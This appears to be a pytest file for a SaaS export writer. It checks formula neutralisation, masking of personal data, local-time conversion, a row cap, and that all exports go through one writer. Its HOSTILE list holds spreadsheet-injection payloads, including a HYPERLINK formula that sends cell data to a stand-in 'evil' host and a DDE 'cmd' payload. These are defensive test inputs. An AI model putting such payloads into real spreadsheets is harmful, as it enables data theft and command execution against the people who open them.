"""The kernel's export writer (`saas.exports`), read back with openpyxl: no live formula, numbers stay numbers,
local times, personal data masked unless the reader may see it, the row cap."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from saas.exports import (
    DATE_FORMAT,
    EXPORT_MAX_ROWS,
    PERCENT_FORMAT,
    Column,
    ExportBook,
    Styled,
    TooManyRows,
    check_row_count,
    neutralise,
    write_csv,
)

HOSTILE = ['=HYPERLINK("http://evil/?d="&M2,"查看详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]
COLUMNS = (Column("text", "说明", 40), Column("phone", "手机号", 14, personal="phone"),
           Column("id_number", "身份证号", 20, personal="id_number"), Column("note", "备注", 30, personal="text"),
           Column("count", "数量"), Column("rate", "比率", number_format=PERCENT_FORMAT), Column("at", "时间"))
ROW = {"text": HOSTILE[0], "phone": "13800138000", "id_number": "110101199003072316",
       "note": "请回电 1380 013 8000", "count": -5, "rate": 0.25,
       "at": dt.datetime(2026, 12, 1, 2, 30, tzinfo=dt.UTC)}


def read(body: bytes, title: str) -> list[list[object]]:
    return [[c.value for c in row] for row in load_workbook(io.BytesIO(body))[title].iter_rows()]


def test_hostile_text_comes_back_as_inert_text_and_numbers_stay_numbers():
    book = ExportBook("Asia/Shanghai")
    sheet = book.sheet("列表", [Column("v", "值")])
    for value in HOSTILE:
        sheet.append({"v": value})
    sheet.append({"v": -5})
    sheet.append({"v": 3.5})
    sheet.append({"v": "普通文字"})
    wb = load_workbook(io.BytesIO(book.save()))
    cells = [row[0] for row in wb["列表"].iter_rows(min_row=2)]
    for cell, value in zip(cells, HOSTILE, strict=False):
        assert cell.data_type == "s"  # never "f"
        assert cell.value == "'" + value
    assert (cells[6].value, cells[6].data_type) == (-5, "n")
    assert (cells[7].value, cells[7].data_type) == (3.5, "n")
    assert cells[8].value == "普通文字"
    assert not any(c.data_type == "f" for row in wb["列表"].iter_rows() for c in row)


def test_personal_columns_are_masked_unless_the_reader_may_see_them():
    masked = ExportBook("Asia/Shanghai")
    masked.sheet("列表", COLUMNS).append(ROW)
    header, row = read(masked.save(), "列表")
    assert header == ["说明", "手机号", "身份证号", "备注", "数量", "比率", "时间"]
    assert row[1] == "138****8000"
    assert row[2] == "110101********2316"
    assert row[3] == "请回电 *************"
    assert row[0].startswith("'=HYPERLINK")
    assert row[4] == -5
    assert row[6] == dt.datetime(2026, 12, 1, 10, 30)  # Asia/Shanghai wall-clock time, not UTC
    revealed = ExportBook("Asia/Shanghai", reveal_personal=True)
    revealed.sheet("列表", COLUMNS).append(ROW)
    _header, row = read(revealed.save(), "列表")
    assert (row[1], row[2], row[3]) == ("13800138000", "110101199003072316", "请回电 1380 013 8000")


def test_number_formats_and_positional_rows():
    book = ExportBook("Asia/Urumqi")
    sheet = book.sheet("汇总", ["项目", "值"], [20, 30])
    sheet.append(["导出时间", Styled(dt.datetime(2026, 12, 1, 2, 30, tzinfo=dt.UTC), DATE_FORMAT)])
    sheet.append(["比率", Styled(0.5, PERCENT_FORMAT)])
    sheet.append(["=cmd", None])
    ws = load_workbook(io.BytesIO(book.save()))["汇总"]
    assert ws["B2"].value == dt.datetime(2026, 12, 1, 8, 30)
    assert ws["B2"].number_format == DATE_FORMAT
    assert (ws["B3"].value, ws["B3"].number_format) == (0.5, PERCENT_FORMAT)
    assert ws["A4"].value == "'=cmd"
    assert ws.column_dimensions["A"].width == 20


def test_sheet_titles_are_made_valid_and_unique_and_control_characters_dropped():
    book = ExportBook("Asia/Shanghai")
    book.sheet("按[街道]:统计", ["a"]).append(["坏\x00字\x07符"])
    book.sheet("按[街道]:统计", ["a"])
    wb = load_workbook(io.BytesIO(book.save()))
    assert wb.sheetnames == ["按 街道  统计", "按 街道  统计 2"]
    assert wb.worksheets[0]["A2"].value == "坏字符"


def test_csv_follows_the_same_rules():
    body = write_csv(COLUMNS, [ROW], tz="Asia/Shanghai")
    assert body.startswith(b"\xef\xbb\xbf")
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert header[1] == "手机号"
    assert row[0].startswith("'=HYPERLINK")
    assert row[1] == "138****8000"
    assert row[4] == "-5"
    assert row[6] == "2026-12-01 10:30"


def test_the_row_cap_is_the_kernels_rule(app):
    check_row_count(EXPORT_MAX_ROWS)
    with app.test_request_context("/"), pytest.raises(TooManyRows) as refused:
        check_row_count(EXPORT_MAX_ROWS + 1)
    assert refused.value.cap == EXPORT_MAX_ROWS
    assert "10,000" in refused.value.message


def test_neutralise_leaves_ordinary_text():
    for text in ("XD-20261201-0007", "普通文字", "a=b", "5-3"):
        assert neutralise(text) == text
    assert neutralise("-5") == "'-5"


WRITERS = ("Workbook(", "csv.writer(", "csv.DictWriter(", "xlsxwriter", ".to_excel(", ".to_csv(")


def test_every_export_goes_through_the_kernels_writer():
    """No module, kernel file or door writes a spreadsheet of its own: the kernel's writer holds the rules (no live
    formulas, masked personal data, local times) once, for the modules of today and of later."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    own = root / "saas" / "exports.py"
    offenders = []
    for folder in ("saas", "tenants", "blueprints", "workers"):
        for path in (root / folder).rglob("*.py"):
            if path == own or "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            offenders += [f"{path.relative_to(root)}: {w}" for w in WRITERS if w in text]
    assert offenders == []
